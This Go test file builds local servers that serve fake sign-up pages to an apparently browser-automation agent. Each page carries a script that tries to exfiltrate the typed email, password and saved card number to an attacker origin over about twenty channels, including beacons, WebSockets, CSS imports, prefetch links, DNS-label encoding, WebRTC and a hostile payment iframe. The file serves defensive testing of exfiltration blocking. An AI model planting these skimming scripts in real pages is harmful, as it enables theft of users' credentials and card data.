package cli

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// The adversarial pages: a sign-up form on the run's site, each page
// carrying a script that, when the form is sent, tries to send the
// person's email, the typed password and a masked field's value (a saved
// card, prefilled) to an attacker on another origin by one channel. The
// legitimate requests beside it (the form to its own site, a same-site
// socket, a payment frame loaded from an allowed third site) must still go.

// channelEmail and channelPassword are what the agent types.
const (
	channelEmail    = "jordan.lee@example.com"
	channelPassword = "Tr0ub4dor-and-3"
	channelCard     = "4242424242424242"
)

// channels maps each page to the script its form's sending runs; A is the
// attacker's origin, q() the data as a query, d() as an object, H the
// attacker's port for host names.
var channels = map[string]string{
	"websocket": `try { new WebSocket(A.replace('http', 'ws') + '/ws?' + q()); } catch (e) {}`,
	"popup":     `window.open(A + '/popup?' + q());`,
	"formtarget": `const f = document.createElement('form'); f.method = 'post'; f.action = A + '/form'; f.target = '_blank';
    for (const [k, v] of Object.entries(d())) { const i = document.createElement('input'); i.name = k; i.value = v; f.appendChild(i); }
    document.body.appendChild(f); f.submit();`,
	"frame":         `document.getElementById('pay').contentWindow.postMessage(d(), '*');`,
	"ping":          `const a = document.createElement('a'); a.href = '#sent'; a.ping = A + '/ping?' + q(); document.body.appendChild(a); a.click();`,
	"prefetch":      `for (const rel of ['prefetch', 'preload', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'fetch'; l.href = A + '/' + rel + '?' + q(); document.head.appendChild(l); }`,
	"css":           `const s = document.createElement('style'); s.textContent = '@import url(' + A + '/import?' + q() + '); body { background: url(' + A + '/bg?' + q() + '); }'; document.head.appendChild(s);`,
	"refresh":       `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + A + '/refresh?' + q(); document.head.appendChild(m);`,
	"eventsource":   `new EventSource(A + '/events?' + q());`,
	"beacon":        `navigator.sendBeacon(A + '/beacon', q());`,
	"fetch":         `fetch(A + '/fetch', {method: 'POST', mode: 'no-cors', body: q()});`,
	"worker":        `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(A + '/worker?' + q()) + ')'], {type: 'text/javascript'})));`,
	"serviceworker": `navigator.serviceWorker.register('/sw.js?' + q()).catch(() => {});`,
	"sharedworker":  `new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(A + '/shared?' + q()) + ')'], {type: 'text/javascript'})));`,
	"workersocket":  `new Worker(URL.createObjectURL(new Blob(['new WebSocket(' + JSON.stringify(A.replace('http', 'ws') + '/ws?' + q()) + ')'], {type: 'text/javascript'})));`,
	"popupfirst":    `window.open('/first#' + q());`,
	"wsstream":      `new WebSocketStream(A.replace('http', 'ws') + '/stream?' + q());`,
	"webtransport":  `new WebTransport(A.replace('http', 'https') + '/wt?' + q());`,
	"preconnect": `const hex = s => Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join('');
    for (const [rel, href] of [['preconnect', A], ['dns-prefetch', 'http://' + hex(d().password) + '.localhost:' + H], ['preconnect', 'http://' + d().email.replace(/[^a-z0-9]+/gi, '-') + '.localhost:' + H]]) {
      const l = document.createElement('link'); l.rel = rel; l.href = href; document.head.appendChild(l); }
    const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [A + '/spec?' + q()]}], prerender: [{source: 'list', urls: [A + '/prerender?' + q()]}]});
    document.head.appendChild(s);`,
	"webrtc": `try { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + U}]});
    pc.createDataChannel(q()); pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) {}`,
	"hostname": `const hex = s => Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join('');
    fetch('http://' + hex(d().password) + '.localhost:' + H + '/h', {mode: 'no-cors'}).catch(() => {});
    new Image().src = 'http://' + d().email.replace(/[^a-z0-9]+/gi, '-') + '-' + d().card + '.localhost:' + H + '/i';`,
}

// channelSites are the servers of the suite and what reached them.
type channelSites struct {
	site, third, attacker *httptest.Server
	udp                   net.PacketConn

	mu       sync.Mutex
	hits     []string // every request the attacker received
	conns    int      // every connection it accepted, with a request or not
	udpHits  int      // every datagram (STUN) it received
	signups  []string // the form's own posts: emails
	ownSocks int      // same-site socket handshakes
	frames   int      // the payment frame's loads
}

func newChannelSites(t *testing.T) *channelSites {
	t.Helper()
	cs := &channelSites{}
	cs.attacker = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		cs.mu.Lock()
		cs.hits = append(cs.hits, r.Method+" "+r.Host+r.URL.String())
		cs.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	}))
	// A preconnect opens a connection and sends nothing: connections are
	// counted apart from requests.
	cs.attacker.Config.ConnState = func(_ net.Conn, st http.ConnState) {
		if st == http.StateNew {
			cs.mu.Lock()
			cs.conns++
			cs.mu.Unlock()
		}
	}
	cs.attacker.Start()
	t.Cleanup(cs.attacker.Close)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	cs.udp = udp
	t.Cleanup(func() { udp.Close() })
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			cs.mu.Lock()
			cs.udpHits++
			cs.mu.Unlock()
		}
	}()
	cs.third = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		cs.mu.Lock()
		cs.frames++
		cs.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>Pay</title><p>Secure card field</p><script>
addEventListener('message', e => { const d = e.data;
  new Image().src = %q + '/frame?e=' + encodeURIComponent(d.email) + '&p=' + encodeURIComponent(d.password) + '&c=' + d.card; });
</script>`, cs.attacker.URL)
	}))
	t.Cleanup(cs.third.Close)
	cs.site = httptest.NewServer(cs.siteHandler())
	t.Cleanup(cs.site.Close)
	return cs
}

// thirdURL is the payment frame's origin, on a host of its own
// (localhost, not 127.0.0.1) so Chromium puts the frame in its own
// process.
func (cs *channelSites) thirdURL() string {
	return strings.Replace(cs.third.URL, "127.0.0.1", "localhost", 1)
}

// thirdHost is the payment frame's host as --allow-host takes it.
func (cs *channelSites) thirdHost() string {
	return strings.TrimPrefix(cs.thirdURL(), "http://")
}

func (cs *channelSites) siteHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /signup", func(w http.ResponseWriter, r *http.Request) {
		cs.mu.Lock()
		cs.signups = append(cs.signups, r.FormValue("email"))
		cs.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>Welcome</title><h1>Account created</h1><p>Welcome aboard.</p>`)
	})
	mux.HandleFunc("/ws", func(w http.ResponseWriter, r *http.Request) {
		if strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
			cs.mu.Lock()
			cs.ownSocks++
			cs.mu.Unlock()
		}
		http.Error(w, "no", http.StatusBadRequest)
	})
	// A page of the site's own that, opened in a window, sends what its
	// address carries to the attacker from its first document's first
	// script, before anything else of it loads.
	mux.HandleFunc("/first", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><html><head><script>new Image().src = %q + '/first?' + location.hash.slice(1);
fetch(%q + '/first-fetch?' + location.hash.slice(1), {mode: 'no-cors'}).catch(() => {});</script></head><body><p>Thanks</p></body></html>`, cs.attacker.URL, cs.attacker.URL)
	})
	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `self.addEventListener('install', () => fetch(%q + '/sw'));`, cs.attacker.URL)
	})
	mux.HandleFunc("/c/{channel}", func(w http.ResponseWriter, r *http.Request) {
		js, ok := channels[r.PathValue("channel")]
		if !ok {
			http.NotFound(w, r)
			return
		}
		_, port, _ := net.SplitHostPort(strings.TrimPrefix(cs.attacker.URL, "http://"))
		_, uport, _ := net.SplitHostPort(cs.udp.LocalAddr().String())
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><html><head><title>Sign up</title></head><body>
<h1>Create your account</h1>
<form id="f" action="/signup" method="post">
<label>Email <input name="email" type="email"></label>
<label>Password <input name="password" type="password" autocomplete="new-password"></label>
<label>Saved card <input name="card" type="password" autocomplete="cc-number" value="%s"></label>
<button>Sign up</button>
</form>
<iframe id="pay" src="%s/pay" style="width:300px;height:80px;border:0"></iframe>
<script>
const A = %q, H = %q, U = %q;
const d = () => ({email: document.querySelector('[name=email]').value, password: document.querySelector('[name=password]').value, card: document.querySelector('[name=card]').value});
const q = () => new URLSearchParams(d()).toString();
try { new WebSocket(location.origin.replace('http', 'ws') + '/ws'); } catch (e) {}
document.getElementById('f').addEventListener('submit', ev => {
  ev.preventDefault();
  try { %s } catch (e) {}
  setTimeout(() => ev.target.submit(), 300);
});
</script></body></html>`, channelCard, cs.thirdURL(), cs.attacker.URL, port, uport, js)
	})
	return mux
}

// reached is what reached the attacker (requests, datagrams, connections),
// and the legitimate counts.
func (cs *channelSites) reached() (hits []string, udp, conns int, signups []string, ownSocks, frames int) {
	cs.mu.Lock()
	defer cs.mu.Unlock()
	return append([]string{}, cs.hits...), cs.udpHits, cs.conns, append([]string{}, cs.signups...), cs.ownSocks, cs.frames
}
